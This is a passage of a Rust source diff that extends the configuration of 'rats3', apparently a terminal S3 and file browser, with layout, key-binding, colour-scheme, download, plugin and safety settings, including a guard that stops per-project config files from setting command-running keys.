@@ -1,14 +1,33 @@
+use crate::fuzzy::FuzzyWeights;
+use crate::plugin::Plugin;
+use crate::preview_handler::PreviewHandler;
 use anyhow::{Context, Result};
 use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
-use ratatui::style::Color;
+use ratatui::style::{Color, Modifier, Style};
 use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
 use std::fs;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
+
+/// Per-project config file name, looked up in the current working directory
+pub const PROJECT_CONFIG_FILE: &str = ".rats3.toml";
+
+/// Keys a project config found in the current directory may not set: they run
+/// commands, so a `.rats3.toml` checked into a cloned repo would otherwise run
+/// them while browsing it. They are still taken from the global config and from
+/// a file passed with `--config`.
+const UNTRUSTED_OVERLAY_KEYS: &[&[&str]] = &[
+    &["preview", "handlers"],
+    &["pre_operation_hook"],
+    &["plugins"],
+    &["credential_command"],
+];
 
 /// Application configuration
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct Config {
-    /// Maximum file size for preview (in bytes)
+    /// Maximum file size for preview (in bytes); local files are previewed up
+    /// to this many bytes instead
     #[serde(default = "default_preview_max_size")]
     pub preview_max_size: usize,
 
@@ -16,25 +35,193 @@ pub struct Config {
     #[serde(default = "default_preview_width_percent")]
     pub preview_width_percent: u16,
 
+    /// Where the preview pane is placed ("right", "bottom" or "hidden")
+    #[serde(default)]
+    pub preview_layout: PreviewLayout,
+
+    /// Where the downloads progress pane is docked when shown ("right" or "bottom")
+    #[serde(default)]
+    pub progress_pane_position: ProgressPanePosition,
+
+    /// Show the downloads progress pane on startup
+    #[serde(default)]
+    pub show_progress_pane: bool,
+
+    /// Set the terminal window/tab title to the current location
+    #[serde(default = "default_true")]
+    pub terminal_title: bool,
+
+    /// Start in zen mode: no search bar or status pane, only the explorer and
+    /// preview (toggled with zen_mode)
+    #[serde(default)]
+    pub zen_mode: bool,
+
     /// Status message timeout in seconds
     #[serde(default = "default_status_message_timeout_secs")]
     pub status_message_timeout_secs: u64,
 
+    /// Milliseconds the second key of a two-key sequence (gg, jj) may follow
+    /// the first. Later, the first key is dropped, or typed into the query in
+    /// search mode.
+    #[serde(default = "default_key_sequence_timeout_ms")]
+    pub key_sequence_timeout_ms: u64,
+
     /// Download destinations
     #[serde(default)]
     pub download_destinations: Vec<DownloadDestination>,
 
+    /// Give downloaded files the last-modified time of their object
+    #[serde(default = "default_true")]
+    pub preserve_download_mtime: bool,
+
+    /// Record on each downloaded file where it came from: "none", "xattr"
+    /// (extended attributes) or "sidecar" (a `name.rats3.json` next to it)
+    #[serde(default)]
+    pub download_metadata: DownloadMetadata,
+
+    /// Entry names to hide from listings (`*` and `?` wildcards, e.g. "*.pyc")
+    #[serde(default)]
+    pub ignore_patterns: Vec<String>,
+
+    /// Hide the `<name>_$folder$` marker objects Hadoop/EMR create, listing
+    /// the directories they stand for instead
+    #[serde(default = "default_true")]
+    pub hide_folder_markers: bool,
+
     /// Key bindings
     #[serde(default)]
     pub key_bindings: KeyBindings,
 
+    /// Terminal background the color scheme is tuned for ("dark", "light" or "auto")
+    #[serde(default)]
+    pub background: Background,
+
+    /// Syntax highlighting theme of the preview: "tokyonight-moon" or
+    /// "tokyonight-day" (bundled), one of syntect's themes (e.g.
+    /// "InspiredGitHub") or the path of a .tmTheme file. Empty picks the
+    /// bundled one matching the background.
+    #[serde(default)]
+    pub syntax_theme: String,
+
     /// Color scheme
     #[serde(default)]
     pub colors: ColorScheme,
 
+    /// Number of days a restored GLACIER/DEEP_ARCHIVE object stays available
+    #[serde(default = "default_restore_days")]
+    pub restore_days: i32,
+
+    /// Allow operations that modify the storage (`:upload`); off by default so
+    /// browsing can never change a bucket
+    #[serde(default)]
+    pub allow_writes: bool,
+
+    /// Number of files uploaded in parallel by `:upload`
+    #[serde(default = "default_upload_concurrency")]
+    pub upload_concurrency: usize,
+
     /// Number of files to keep in the syntax-highlight cache (default: 2)
     #[serde(default = "default_highlight_cache_size")]
     pub highlight_cache_size: usize,
+
+    /// Seconds a directory listing is reused when navigating back to it
+    /// (0 lists again every time); the refresh key always re-lists
+    #[serde(default = "default_listing_cache_ttl_secs")]
+    pub listing_cache_ttl_secs: u64,
+
+    /// Listings and previews taking longer than this many milliseconds are
+    /// reported with a warning in the status bar (0 = never)
+    #[serde(default = "default_slow_request_warning_ms")]
+    pub slow_request_warning_ms: u64,
+
+    /// Listings and previews taking longer than this many seconds fail with
+    /// a timeout error (0 = wait forever)
+    #[serde(default = "default_request_timeout_secs")]
+    pub request_timeout_secs: u64,
+
+    /// Command run (through the shell) to refresh expired credentials before
+    /// retrying what failed; `{profile}` is replaced with the AWS profile in
+    /// use. Empty to only report expired credentials.
+    #[serde(default = "default_credential_command")]
+    pub credential_command: String,
+
+    /// Command run (through the shell) before uploads, `:sync --delete`
+    /// removals and restores, for policy checks: a non-zero exit vetoes the
+    /// operation and what it printed is shown. It gets `RATS3_OPERATION`
+    /// ("upload", "delete" or "restore"), `RATS3_LOCATION`, `RATS3_COUNT` and
+    /// `RATS3_PROFILE` in the environment and the paths on stdin, one per
+    /// line. Empty to run operations unchecked.
+    #[serde(default)]
+    pub pre_operation_hook: String,
+
+    /// Entering a directory whose only entry is another directory keeps going
+    /// down (`year/month/day/hour` partitions) in one keypress
+    #[serde(default)]
+    pub auto_descend: bool,
+
+    /// Keys fetched per page of the flat view; further pages are fetched on
+    /// request, or all at once with the load-all key
+    #[serde(default = "default_flat_page_size")]
+    pub flat_page_size: usize,
+
+    /// Entries on each side of the cursor prefetched while idle: directories are
+    /// listed and file previews loaded ahead of time (0 = off)
+    #[serde(default)]
+    pub prefetch_distance: usize,
+
+    /// Number of visited locations kept in the history
+    #[serde(default = "default_history_max_entries")]
+    pub history_max_entries: usize,
+
+    /// Leave folders whose name is all digits (run IDs like `jobs/8323`) out of the history
+    #[serde(default = "default_history_skip_numeric_folders")]
+    pub history_skip_numeric_folders: bool,
+
+    /// Locations never added to the history (`*` and `?` wildcards), matched
+    /// against the full path, e.g. "s3://scratch-*" or "*/tmp/*"; with a `re:`
+    /// prefix a regular expression found anywhere in it, e.g. `re:/run-\d+$`
+    #[serde(default)]
+    pub history_exclude_patterns: Vec<String>,
+
+    /// Weights of the basename bonus added to fuzzy match scores (`[fuzzy]`)
+    #[serde(default)]
+    pub fuzzy: FuzzyWeights,
+
+    /// How the last-modified time is shown next to entries: "relative"
+    /// ("3h ago", brighter for fresher files), "absolute" or "hidden"
+    #[serde(default)]
+    pub entry_time: EntryTime,
+
+    /// Show the mode bits, owner and group of local entries
+    #[serde(default)]
+    pub show_permissions: bool,
+
+    /// Segments shown in the status bar, left to right
+    #[serde(default = "default_status_segments")]
+    pub status_segments: Vec<StatusSegment>,
+
+    /// Filters toggled on the listing with a single key (`[filter_presets]`,
+    /// e.g. `"1" = "*.parquet"`): globs if they contain `*` or `?`, fuzzy
+    /// queries otherwise
+    #[serde(default)]
+    pub filter_presets: BTreeMap<String, String>,
+
+    /// Preview handlers by file extension (`[preview]`)
+    #[serde(default)]
+    pub preview: PreviewConfig,
+
+    /// External commands run on the selected entries (`[plugins.presign]`),
+    /// bound to a key or run with `:plugin <name>`
+    #[serde(default)]
+    pub plugins: BTreeMap<String, Plugin>,
+
+    /// Operations that ask before they run (`[confirmations]`)
+    #[serde(default)]
+    pub confirmations: Confirmations,
+
+    /// Named locations (`[contexts.prod]`), opened with `--context <name>` or `:context`
+    #[serde(default)]
+    pub contexts: BTreeMap<String, LocationContext>,
 }
 
 /// Key binding configuration
@@ -43,6 +230,9 @@ pub struct KeyBindings {
     #[serde(default = "default_quit_keys")]
     pub quit: Vec<String>,
 
+    #[serde(default = "default_suspend_keys")]
+    pub suspend: Vec<String>,
+
     #[serde(default = "default_move_up_keys")]
     pub move_up: Vec<String>,
 
@@ -99,10 +289,279 @@ pub struct KeyBindings {
 
     #[serde(default = "default_yank_selection_keys")]
     pub yank_selection: Vec<String>,
+
+    #[serde(default = "default_zoom_pane_keys")]
+    pub zoom_pane: Vec<String>,
+
+    #[serde(default = "default_cycle_layout_keys")]
+    pub cycle_layout: Vec<String>,
+
+    #[serde(default = "default_toggle_progress_pane_keys")]
+    pub toggle_progress_pane: Vec<String>,
+
+    #[serde(default = "default_restore_object_keys")]
+    pub restore_object: Vec<String>,
+
+    #[serde(default = "default_scroll_columns_left_keys")]
+    pub scroll_columns_left: Vec<String>,
+
+    #[serde(default = "default_scroll_columns_right_keys")]
+    pub scroll_columns_right: Vec<String>,
+
+    #[serde(default = "default_toggle_fold_keys")]
+    pub toggle_fold: Vec<String>,
+
+    #[serde(default = "default_cycle_encoding_keys")]
+    pub cycle_encoding: Vec<String>,
+
+    #[serde(default = "default_next_file_keys")]
+    pub next_file: Vec<String>,
+
+    #[serde(default = "default_previous_file_keys")]
+    pub previous_file: Vec<String>,
+
+    #[serde(default = "default_navigate_back_keys")]
+    pub navigate_back: Vec<String>,
+
+    #[serde(default = "default_navigate_forward_keys")]
+    pub navigate_forward: Vec<String>,
+
+    #[serde(default = "default_refresh_keys")]
+    pub refresh: Vec<String>,
+
+    #[serde(default = "default_accept_filter_keys")]
+    pub accept_filter: Vec<String>,
+
+    #[serde(default = "default_properties_keys")]
+    pub properties: Vec<String>,
+
+    #[serde(default = "default_properties_sequence")]
+    pub properties_sequence: String,
+
+    #[serde(default = "default_group_by_extension_keys")]
+    pub group_by_extension: Vec<String>,
+
+    #[serde(default = "default_toggle_group_keys")]
+    pub toggle_group: Vec<String>,
+
+    #[serde(default = "default_cycle_kind_filter_keys")]
+    pub cycle_kind_filter: Vec<String>,
+
+    #[serde(default = "default_toggle_flat_view_keys")]
+    pub toggle_flat_view: Vec<String>,
+
+    #[serde(default = "default_next_page_keys")]
+    pub next_page: Vec<String>,
+
+    #[serde(default = "default_previous_page_keys")]
+    pub previous_page: Vec<String>,
+
+    #[serde(default = "default_load_all_keys")]
+    pub load_all: Vec<String>,
+
+    #[serde(default = "default_grow_preview_keys")]
+    pub grow_preview: Vec<String>,
+
+    #[serde(default = "default_shrink_preview_keys")]
+    pub shrink_preview: Vec<String>,
+
+    #[serde(default = "default_grow_status_pane_keys")]
+    pub grow_status_pane: Vec<String>,
+
+    #[serde(default = "default_shrink_status_pane_keys")]
+    pub shrink_status_pane: Vec<String>,
+
+    #[serde(default = "default_grow_progress_pane_keys")]
+    pub grow_progress_pane: Vec<String>,
+
+    #[serde(default = "default_shrink_progress_pane_keys")]
+    pub shrink_progress_pane: Vec<String>,
+
+    #[serde(default = "default_zen_mode_keys")]
+    pub zen_mode: Vec<String>,
+}
+
+/// Placement of the preview pane relative to the explorer
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum PreviewLayout {
+    /// Preview to the right of the explorer
+    #[default]
+    Right,
+    /// Preview underneath the explorer
+    Bottom,
+    /// No preview pane; only the focused pane is shown
+    Hidden,
+}
+
+impl PreviewLayout {
+    /// Next layout in the cycle right -> bottom -> hidden -> right
+    pub fn next(self) -> Self {
+        match self {
+            PreviewLayout::Right => PreviewLayout::Bottom,
+            PreviewLayout::Bottom => PreviewLayout::Hidden,
+            PreviewLayout::Hidden => PreviewLayout::Right,
+        }
+    }
+
+    /// Short name used in status messages
+    pub fn name(self) -> &'static str {
+        match self {
+            PreviewLayout::Right => "right",
+            PreviewLayout::Bottom => "bottom",
+            PreviewLayout::Hidden => "hidden",
+        }
+    }
+}
+
+/// Docking position of the downloads progress pane
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum ProgressPanePosition {
+    /// Column to the right of the explorer/preview
+    #[default]
+    Right,
+    /// Row underneath the explorer/preview
+    Bottom,
+}
+
+/// Preview settings (`[preview]`)
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct PreviewConfig {
+    /// Handlers by file extension (`[preview.handlers]`): "text", "hex",
+    /// "table", "image", "archive", or a command like `pdftotext {} -`
+    #[serde(default)]
+    pub handlers: BTreeMap<String, PreviewHandler>,
+
+    /// Largest file (in bytes) handed to a handler; larger ones get the
+    /// regular preview
+    #[serde(default = "default_handler_max_size")]
+    pub handler_max_size: u64,
+}
+
+impl Default for PreviewConfig {
+    fn default() -> Self {
+        Self { handlers: BTreeMap::new(), handler_max_size: default_handler_max_size() }
+    }
+}
+
+/// Bytes in the gigabytes of `download_gb` and `egress_cost_per_gb`
+const BYTES_PER_GB: f64 = 1024.0 * 1024.0 * 1024.0;
+
+/// Operations that ask for confirmation before they run (`[confirmations]`)
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Confirmations {
+    /// Ask before downloading more than this many files at once (0 = never)
+    #[serde(default)]
+    pub download_files: usize,
+
+    /// Ask before downloading more than this many gigabytes at once (0 = never)
+    #[serde(default)]
+    pub download_gb: f64,
+
+    /// Egress price in dollars per gigabyte, for the estimated cost shown when
+    /// a download asks for confirmation (0 = not shown)
+    #[serde(default)]
+    pub egress_cost_per_gb: f64,
+
+    /// Ask before a download replaces an existing local file
+    #[serde(default)]
+    pub overwrites: bool,
+
+    /// Show a `:sync` that deletes local files for confirmation, even when
+    /// `sync_plans` is off
+    #[serde(default = "default_true")]
+    pub deletes: bool,
+
+    /// Show `:sync`/`:upload` plans for confirmation before anything is transferred
+    #[serde(default = "default_true")]
+    pub sync_plans: bool,
+
+    /// Ask before switching to another backend (contexts, history entries)
+    #[serde(default)]
+    pub backend_switches: bool,
+}
+
+impl Default for Confirmations {
+    fn default() -> Self {
+        Self {
+            download_files: 0,
+            download_gb: 0.0,
+            egress_cost_per_gb: 0.0,
+            overwrites: false,
+            deletes: true,
+            sync_plans: true,
+            backend_switches: false,
+        }
+    }
+}
+
+impl Confirmations {
+    /// Whether downloading `files` files of `bytes` bytes in total needs confirmation
+    pub fn download_needs_confirmation(&self, files: usize, bytes: u64) -> bool {
+        (self.download_files > 0 && files > self.download_files)
+            || (self.download_gb > 0.0 && bytes as f64 > self.download_gb * BYTES_PER_GB)
+    }
+
+    /// Estimated egress cost in dollars of downloading `bytes`, if a price is set
+    pub fn egress_cost(&self, bytes: u64) -> Option<f64> {
+        (self.egress_cost_per_gb > 0.0).then(|| bytes as f64 / BYTES_PER_GB * self.egress_cost_per_gb)
+    }
+}
+
+/// Display of the last-modified time in the listing
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum EntryTime {
+    /// Age like "3h ago", colored by recency
+    #[default]
+    Relative,
+    /// Date and time like "2024-01-01 10:00"
+    Absolute,
+    /// Not shown
+    Hidden,
+}
+
+/// A piece of information in the status bar. Segments without a value
+/// (no profile, no filter, ...) are left out.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum StatusSegment {
+    /// Current mode: NORMAL, SEARCH, VISUAL, ...
+    Mode,
+    /// Backend type: s3, local, http(s) or memory
+    Backend,
+    /// AWS profile the backend uses
+    Profile,
+    /// AWS region the backend uses
+    Region,
+    /// Active search filter
+    Filter,
+    /// Number of selected entries
+    Selection,
+    /// Shown and total number of entries
+    Count,
+    /// Bytes previewed and downloaded (and uploaded) this session
+    Transfer,
+    /// Hint for the help popup
+    Help,
+}
+
+/// Terminal background brightness
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Background {
+    /// Query the terminal at startup (OSC 11), falling back to dark
+    Auto,
+    /// Dark background (Tokyo Night)
+    #[default]
+    Dark,
+    /// Light background (Tokyo Night Day)
+    Light,
 }
 
 /// RGB color representation
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub struct RgbColor {
     pub r: u8,
     pub g: u8,
@@ -117,6 +576,26 @@ impl RgbColor {
     pub fn to_ratatui_color(&self) -> Color {
         Color::Rgb(self.r, self.g, self.b)
     }
+
+    /// WCAG contrast ratio with `other`, from 1 (same luminance) to 21
+    /// (black on white)
+    pub fn contrast_ratio(&self, other: &RgbColor) -> f64 {
+        let (a, b) = (self.luminance(), other.luminance());
+        (a.max(b) + 0.05) / (a.min(b) + 0.05)
+    }
+
+    /// Relative luminance of the sRGB color
+    fn luminance(&self) -> f64 {
+        let channel = |c: u8| {
+            let c = c as f64 / 255.0;
+            if c <= 0.03928 {
+                c / 12.92
+            } else {
+                ((c + 0.055) / 1.055).powf(2.4)
+            }
+        };
+        0.2126 * channel(self.r) + 0.7152 * channel(self.g) + 0.0722 * channel(self.b)
+    }
 }
 
 /// Color scheme configuration
@@ -177,8 +656,30 @@ pub struct ColorScheme {
     /// Default file icon color
     #[serde(default = "default_file_icon_default_color")]
     pub file_icon_default: RgbColor,
+
+    /// How search matches stand out on the cursor line and selected rows
+    #[serde(default)]
+    pub selected_match: SelectedMatchStyle,
+}
+
+/// How search matches stand out on rows with the selection background
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum SelectedMatchStyle {
+    /// In the search accent when it contrasts enough with the selection
+    /// background, bold and underlined otherwise
+    #[default]
+    Auto,
+    /// Always in the search accent
+    Color,
+    /// Always bold and underlined, keeping the row's colors
+    Underline,
 }
 
+/// Contrast ratio below which the search accent counts as unreadable on the
+/// selection background (the WCAG minimum for bold text)
+const MIN_MATCH_CONTRAST: f64 = 3.0;
+
 impl Default for ColorScheme {
     fn default() -> Self {
         Self {
@@ -196,6 +697,79 @@ impl Default for ColorScheme {
             file_icon_doc: default_file_icon_doc_color(),
             file_icon_script: default_file_icon_script_color(),
             file_icon_default: default_file_icon_default_color(),
+            selected_match: SelectedMatchStyle::default(),
+        }
+    }
+}
+
+impl ColorScheme {
+    /// Tokyo Night Day palette for light terminal backgrounds
+    pub fn light() -> Self {
+        Self {
+            background: RgbColor::new(225, 226, 231),       // #e1e2e7 - light background
+            border: RgbColor::new(168, 174, 203),           // #a8aecb - soft blue-gray
+            accent_normal: RgbColor::new(0, 113, 151),      // #007197 - deep cyan
+            accent_search: RgbColor::new(140, 108, 62),     // #8c6c3e - dark yellow
+            text_primary: RgbColor::new(55, 96, 191),       // #3760bf - blue
+            text_secondary: RgbColor::new(97, 114, 176),    // #6172b0 - muted blue
+            text_error: RgbColor::new(245, 42, 101),        // #f52a65 - red
+            selection_bg: RgbColor::new(183, 193, 227),     // #b7c1e3 - light selection
+            file_icon_dir: RgbColor::new(0, 113, 151),      // #007197 - deep cyan
+            file_icon_rust: RgbColor::new(140, 108, 62),    // #8c6c3e - dark yellow
+            file_icon_config: RgbColor::new(177, 92, 0),    // #b15c00 - orange
+            file_icon_doc: RgbColor::new(55, 96, 191),      // #3760bf - blue
+            file_icon_script: RgbColor::new(88, 117, 57),   // #587539 - green
+            file_icon_default: RgbColor::new(55, 96, 191),  // #3760bf - blue
+            selected_match: SelectedMatchStyle::default(),
+        }
+    }
+
+    /// Move this scheme onto another base palette: every color still at its
+    /// dark default is replaced by the corresponding color of `base`, while
+    /// colors the user customized are kept as-is.
+    pub fn rebased(&self, base: &ColorScheme) -> Self {
+        let dark = ColorScheme::default();
+        let pick = |current: &RgbColor, default: &RgbColor, replacement: &RgbColor| {
+            if current == default {
+                replacement.clone()
+            } else {
+                current.clone()
+            }
+        };
+
+        Self {
+            background: pick(&self.background, &dark.background, &base.background),
+            border: pick(&self.border, &dark.border, &base.border),
+            accent_normal: pick(&self.accent_normal, &dark.accent_normal, &base.accent_normal),
+            accent_search: pick(&self.accent_search, &dark.accent_search, &base.accent_search),
+            text_primary: pick(&self.text_primary, &dark.text_primary, &base.text_primary),
+            text_secondary: pick(&self.text_secondary, &dark.text_secondary, &base.text_secondary),
+            text_error: pick(&self.text_error, &dark.text_error, &base.text_error),
+            selection_bg: pick(&self.selection_bg, &dark.selection_bg, &base.selection_bg),
+            file_icon_dir: pick(&self.file_icon_dir, &dark.file_icon_dir, &base.file_icon_dir),
+            file_icon_rust: pick(&self.file_icon_rust, &dark.file_icon_rust, &base.file_icon_rust),
+            file_icon_config: pick(&self.file_icon_config, &dark.file_icon_config, &base.file_icon_config),
+            file_icon_doc: pick(&self.file_icon_doc, &dark.file_icon_doc, &base.file_icon_doc),
+            file_icon_script: pick(&self.file_icon_script, &dark.file_icon_script, &base.file_icon_script),
+            file_icon_default: pick(&self.file_icon_default, &dark.file_icon_default, &base.file_icon_default),
+            selected_match: self.selected_match,
+        }
+    }
+
+    /// Style of a search match in text styled `base`; `on_selection` when the
+    /// row has the selection background, where the search accent may not be
+    /// readable
+    pub fn match_style(&self, base: Style, on_selection: bool) -> Style {
+        let accent_readable = !on_selection
+            || match self.selected_match {
+                SelectedMatchStyle::Auto => self.accent_search.contrast_ratio(&self.selection_bg) >= MIN_MATCH_CONTRAST,
+                SelectedMatchStyle::Color => true,
+                SelectedMatchStyle::Underline => false,
+            };
+        if accent_readable {
+            base.fg(self.accent_search.to_ratatui_color())
+        } else {
+            base.add_modifier(Modifier::BOLD | Modifier::UNDERLINED)
         }
     }
 }
@@ -261,14 +835,76 @@ fn default_preview_max_size() -> usize {
     102400 // 100KB
 }
 
+fn default_restore_days() -> i32 {
+    7
+}
+
+fn default_upload_concurrency() -> usize {
+    4
+}
+
 fn default_highlight_cache_size() -> usize {
     2
 }
 
+fn default_handler_max_size() -> u64 {
+    10 * 1024 * 1024 // 10MB
+}
+
+fn default_status_segments() -> Vec<StatusSegment> {
+    vec![
+        StatusSegment::Mode,
+        StatusSegment::Backend,
+        StatusSegment::Profile,
+        StatusSegment::Region,
+        StatusSegment::Filter,
+        StatusSegment::Selection,
+        StatusSegment::Count,
+        StatusSegment::Transfer,
+        StatusSegment::Help,
+    ]
+}
+
+fn default_listing_cache_ttl_secs() -> u64 {
+    30
+}
+
+fn default_slow_request_warning_ms() -> u64 {
+    3000
+}
+
+fn default_request_timeout_secs() -> u64 {
+    30
+}
+
+fn default_credential_command() -> String {
+    "aws sso login --profile {profile}".to_string()
+}
+
+fn default_flat_page_size() -> usize {
+    1000
+}
+
+fn default_history_max_entries() -> usize {
+    100
+}
+
+fn default_true() -> bool {
+    true
+}
+
+fn default_history_skip_numeric_folders() -> bool {
+    true
+}
+
 fn default_status_message_timeout_secs() -> u64 {
     5 // 5 seconds
 }
 
+fn default_key_sequence_timeout_ms() -> u64 {
+    300
+}
+
 fn default_preview_width_percent() -> u16 {
     50 // 50% split
 }
@@ -278,6 +914,10 @@ fn default_quit_keys() -> Vec<String> {
     vec!["Ctrl-c".to_string(), "Ctrl-q".to_string()]
 }
 
+fn default_suspend_keys() -> Vec<String> {
+    vec!["Ctrl-z".to_string()]
+}
+
 fn default_move_up_keys() -> Vec<String> {
     vec!["Up".to_string(), "k".to_string()]
 }
@@ -354,16 +994,176 @@ fn default_yank_selection_keys() -> Vec<String> {
     vec!["y".to_string()]
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
+fn default_zoom_pane_keys() -> Vec<String> {
+    vec!["z".to_string()]
+}
+
+fn default_cycle_layout_keys() -> Vec<String> {
+    vec!["Ctrl-w".to_string()]
+}
+
+fn default_toggle_progress_pane_keys() -> Vec<String> {
+    vec!["p".to_string()]
+}
+
+fn default_restore_object_keys() -> Vec<String> {
+    vec!["T".to_string()]
+}
+
+fn default_scroll_columns_left_keys() -> Vec<String> {
+    vec!["[".to_string()]
+}
+
+fn default_toggle_fold_keys() -> Vec<String> {
+    vec!["Space".to_string()]
+}
+
+fn default_cycle_encoding_keys() -> Vec<String> {
+    vec!["e".to_string()]
+}
+
+fn default_next_file_keys() -> Vec<String> {
+    vec!["Ctrl-n".to_string()]
+}
+
+fn default_previous_file_keys() -> Vec<String> {
+    vec!["Ctrl-p".to_string()]
+}
+
+fn default_navigate_back_keys() -> Vec<String> {
+    vec!["Ctrl-o".to_string()]
+}
+
+fn default_navigate_forward_keys() -> Vec<String> {
+    vec!["Ctrl-i".to_string()]
+}
+
+fn default_refresh_keys() -> Vec<String> {
+    vec!["F5".to_string()]
+}
+
+fn default_accept_filter_keys() -> Vec<String> {
+    vec!["Enter".to_string()]
+}
+
+fn default_properties_keys() -> Vec<String> {
+    vec!["I".to_string()]
+}
+
+fn default_properties_sequence() -> String {
+    "gi".to_string()
+}
+
+fn default_group_by_extension_keys() -> Vec<String> {
+    vec!["E".to_string()]
+}
+
+fn default_toggle_group_keys() -> Vec<String> {
+    vec!["o".to_string()]
+}
+
+fn default_cycle_kind_filter_keys() -> Vec<String> {
+    vec!["F".to_string()]
+}
+
+fn default_toggle_flat_view_keys() -> Vec<String> {
+    vec!["f".to_string()]
+}
+
+fn default_next_page_keys() -> Vec<String> {
+    vec!["]".to_string()]
+}
+
+fn default_previous_page_keys() -> Vec<String> {
+    vec!["[".to_string()]
+}
+
+fn default_load_all_keys() -> Vec<String> {
+    vec!["A".to_string()]
+}
+
+fn default_grow_preview_keys() -> Vec<String> {
+    vec!["Alt-Left".to_string()]
+}
+
+fn default_shrink_preview_keys() -> Vec<String> {
+    vec!["Alt-Right".to_string()]
+}
+
+fn default_grow_status_pane_keys() -> Vec<String> {
+    vec!["Alt-Up".to_string()]
+}
+
+fn default_shrink_status_pane_keys() -> Vec<String> {
+    vec!["Alt-Down".to_string()]
+}
+
+fn default_grow_progress_pane_keys() -> Vec<String> {
+    vec!["Alt-Shift-Up".to_string()]
+}
+
+fn default_shrink_progress_pane_keys() -> Vec<String> {
+    vec!["Alt-Shift-Down".to_string()]
+}
+
+fn default_zen_mode_keys() -> Vec<String> {
+    vec!["Z".to_string()]
+}
+
+fn default_scroll_columns_right_keys() -> Vec<String> {
+    vec!["]".to_string()]
+}
+
+/// What a downloaded file records about the object it came from
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum DownloadMetadata {
+    /// Nothing
+    #[default]
+    None,
+    /// Extended attributes: the object's URI as `user.xdg.origin.url` (as
+    /// browsers and wget set it) and its ETag as `user.rats3.etag`
+    Xattr,
+    /// A `name.rats3.json` file next to it with the URI, ETag and
+    /// last-modified time
+    Sidecar,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
 pub struct DownloadDestination {
     pub name: String,
     pub path: String,
+    /// Buckets (`*` and `?` wildcards, e.g. "raw-data-*") the destination is
+    /// meant for: offered first there, and not offered elsewhere. Empty
+    /// offers it everywhere.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub for_buckets: Vec<String>,
+}
+
+impl DownloadDestination {
+    /// Whether the destination is meant for `bucket` in particular
+    fn is_for(&self, bucket: &str) -> bool {
+        self.for_buckets.iter().any(|pattern| crate::app::glob_match(pattern, bucket))
+    }
+}
+
+/// A named location, so switching environments doesn't mean remembering
+/// URIs and credentials
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct LocationContext {
+    /// Where to open: `s3://bucket/prefix`, an `http(s)://` URL or a local path
+    pub uri: String,
+
+    /// AWS profile for S3 locations (default: the standard credential chain)
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub profile: Option<String>,
 }
 
 impl Default for KeyBindings {
     fn default() -> Self {
         Self {
             quit: default_quit_keys(),
+            suspend: default_suspend_keys(),
             move_up: default_move_up_keys(),
             move_down: default_move_down_keys(),
             jump_up: default_jump_up_keys(),
@@ -383,6 +1183,36 @@ impl Default for KeyBindings {
             toggle_focus: default_toggle_focus_keys(),
             preview_visual_mode: default_preview_visual_mode_keys(),
             yank_selection: default_yank_selection_keys(),
+            zoom_pane: default_zoom_pane_keys(),
+            cycle_layout: default_cycle_layout_keys(),
+            toggle_progress_pane: default_toggle_progress_pane_keys(),
+            restore_object: default_restore_object_keys(),
+            scroll_columns_left: default_scroll_columns_left_keys(),
+            scroll_columns_right: default_scroll_columns_right_keys(),
+            toggle_fold: default_toggle_fold_keys(),
+            cycle_encoding: default_cycle_encoding_keys(),
+            next_file: default_next_file_keys(),
+            previous_file: default_previous_file_keys(),
+            navigate_back: default_navigate_back_keys(),
+            navigate_forward: default_navigate_forward_keys(),
+            refresh: default_refresh_keys(),
+            accept_filter: default_accept_filter_keys(),
+            properties: default_properties_keys(),
+            properties_sequence: default_properties_sequence(),
+            group_by_extension: default_group_by_extension_keys(),
+            toggle_group: default_toggle_group_keys(),
+            cycle_kind_filter: default_cycle_kind_filter_keys(),
+            toggle_flat_view: default_toggle_flat_view_keys(),
+            next_page: default_next_page_keys(),
+            previous_page: default_previous_page_keys(),
+            load_all: default_load_all_keys(),
+            grow_preview: default_grow_preview_keys(),
+            shrink_preview: default_shrink_preview_keys(),
+            grow_status_pane: default_grow_status_pane_keys(),
+            shrink_status_pane: default_shrink_status_pane_keys(),
+            grow_progress_pane: default_grow_progress_pane_keys(),
+            shrink_progress_pane: default_shrink_progress_pane_keys(),
+            zen_mode: default_zen_mode_keys(),
         }
     }
 }
@@ -392,20 +1222,57 @@ impl Default for Config {
         Self {
             preview_max_size: default_preview_max_size(),
             preview_width_percent: default_preview_width_percent(),
+            preview_layout: PreviewLayout::default(),
+            progress_pane_position: ProgressPanePosition::default(),
+            show_progress_pane: false,
+            zen_mode: false,
+            terminal_title: true,
             status_message_timeout_secs: default_status_message_timeout_secs(),
+            key_sequence_timeout_ms: default_key_sequence_timeout_ms(),
             download_destinations: vec![
                 DownloadDestination {
                     name: "Downloads".to_string(),
                     path: "~/Downloads".to_string(),
+                    for_buckets: Vec::new(),
                 },
                 DownloadDestination {
                     name: "Temp".to_string(),
                     path: "/tmp".to_string(),
